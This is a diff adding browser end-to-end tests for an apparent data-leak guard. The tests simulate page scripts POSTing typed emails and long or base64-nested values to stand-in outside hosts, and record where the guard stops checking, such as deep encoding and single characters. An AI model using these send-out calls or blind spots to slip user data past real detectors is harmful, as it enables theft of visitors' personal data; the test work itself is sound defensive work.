@@ -13,8 +13,13 @@ in_browsers! {
         innocent_traffic
         what_runs_in_a_realm_of_its_own
         a_field_in_a_frame
+        a_value_of_a_hundred_kilobytes
     }
     chrome {
+        one_character_is_nothing
+        a_word_of_the_page_is_no_secret
+        what_is_nested_too_deep_is_not_checked
+        password_managers_are_left_alone
         scripts_of_a_frame
         a_script_cannot_allow
     }
@@ -181,4 +186,114 @@ async fn a_script_cannot_allow(visitor: &Visitor) {
     assert_eq!(arrived(visitor), Vec::<String>::new());
     visitor.presses("Block").await;
     visitor.sees("outcome === 'TypeError'").await;
+}
+
+async fn one_character_is_nothing(visitor: &Visitor) {
+    visitor.site().page("/", page("block"));
+    visitor.visits("/").await;
+    visitor.presses("Reject all").await;
+    visitor.types("[name=email]", "j").await;
+    leaks::is_watched(visitor).await;
+    let address = json!(elsewhere(visitor, "a", "one"));
+    visitor.runs(&format!("fetch({address} + '?q=j', {{ method: 'POST', body: 'j' }})")).await;
+    arrives(visitor, "one");
+    visitor.finds("events('leak').length", json!(0)).await;
+}
+
+async fn a_value_of_a_hundred_kilobytes(visitor: &Visitor) {
+    visitor.site().page("/", page("block"));
+    types_an_address(visitor, "/").await;
+    visitor
+        .runs(
+            "window.diary = Array.from({ length: 5000 }, (_, at) => `Line ${at * at} of my diary. `).join('');
+             const note = one('[name=note]'); note.value = diary; note.dispatchEvent(new Event('input', { bubbles: true }));",
+        )
+        .await;
+    visitor.finds("diary.length > 100_000", json!(true)).await;
+    for (at, (name, body)) in [
+        ("a", "diary"),
+        ("b", "diary.slice(0, 400)"),
+        ("c", "JSON.stringify({ d: btoa(diary.slice(0, 3000)) })"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let address = json!(elsewhere(visitor, name, name));
+        visitor
+            .runs(&format!("fetch({address}, {{ method: 'POST', body: {body} }}).catch(() => {{}})"))
+            .await;
+        visitor.sees(&format!("events('leak').length === {}", at + 1)).await;
+        visitor.finds(&format!("events('leak')[{at}].detail.checked"), json!(true)).await;
+    }
+    assert_eq!(arrived(visitor), Vec::<String>::new());
+    let address = json!(elsewhere(visitor, "d", "other"));
+    visitor
+        .runs(&format!(
+            "fetch({address}, {{ method: 'POST', body: 'Nothing of it, but as long: '.repeat(4000) }})"
+        ))
+        .await;
+    arrives(visitor, "other");
+}
+
+async fn a_word_of_the_page_is_no_secret(visitor: &Visitor) {
+    let form = e2e::fixture("order.html");
+    for (path, footer, stopped) in
+        [("/silent", "Nothing", true), ("/said", "Write to office@shop.example", false)]
+    {
+        let body = format!("{form}<footer>{footer}</footer>");
+        let page = Page::new(body).configured(|config| config["egress"] = json!({ "mode": "block" }));
+        visitor.site().page(path, page);
+        visitor.visits(path).await;
+        visitor.runs("privacyWidget.rejectAll()").await;
+        visitor.sees("!banner()").await;
+        visitor.types("[name=email]", "office@shop.example").await;
+        leaks::is_watched(visitor).await;
+        let address = json!(elsewhere(visitor, "a", "footer"));
+        visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: 'office@shop.example' }}).then(() => window.outcome = 'went', () => window.outcome = 'stopped')")).await;
+        visitor.sees("window.outcome").await;
+        visitor.finds("outcome", json!(if stopped { "stopped" } else { "went" })).await;
+    }
+}
+
+async fn what_is_nested_too_deep_is_not_checked(visitor: &Visitor) {
+    visitor.site().page("/", page("report"));
+    types_an_address(visitor, "/").await;
+    for (name, layers, checked) in [("a", 3, true), ("b", 12, false)] {
+        let address = json!(elsewhere(visitor, name, name));
+        visitor.runs(&format!("let body = '{EMAIL}'; for (let i = 0; i < {layers}; i++) body = btoa(body); fetch({address}, {{ method: 'POST', body }})")).await;
+        arrives(visitor, name);
+        visitor.sees(&format!("events('leak').some(event => event.detail.destination.includes('//{name}.') && event.detail.checked === {checked})")).await;
+    }
+    visitor.finds("events('leak')[1].detail.why", json!("too-deep")).await;
+}
+
+async fn password_managers_are_left_alone(visitor: &Visitor) {
+    visitor.site().page("/", page("ask"));
+    visitor.visits("/").await;
+    visitor.presses("Reject all").await;
+    visitor.sees("!banner()").await;
+    // It fills the field in from outside, as extensions do.
+    visitor
+        .evaluates_in_an_extension(&format!(
+            "(() => {{ const field = document.querySelector('[name=email]'); field.value = '{EMAIL}';
+               for (const type of ['input', 'change']) field.dispatchEvent(new Event(type, {{ bubbles: true }})); }})()"
+        ))
+        .await;
+    leaks::is_watched(visitor).await;
+    // What it sends itself is none of the page's doing.
+    let own = json!(elsewhere(visitor, "vault", "vault"));
+    let went = visitor
+        .evaluates_in_an_extension(&format!(
+            "fetch({own}, {{ method: 'POST', body: '{EMAIL}' }}).then(() => 'went', error => error.message)"
+        ))
+        .await;
+    assert_eq!(went, json!("went"));
+    arrives(visitor, "vault");
+    visitor.finds("[events('leak').length, !!modal()]", json!([0, false])).await;
+    // What it filled in is the visitor's all the same.
+    let page = json!(elsewhere(visitor, "tracker", "tracker"));
+    visitor.runs(&format!("fetch({page}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => {{}})")).await;
+    visitor.sees("one('dialog.leak[open]')").await;
+    visitor.presses("Block").await;
+    assert_eq!(arrived(visitor), ["vault"]);
 }
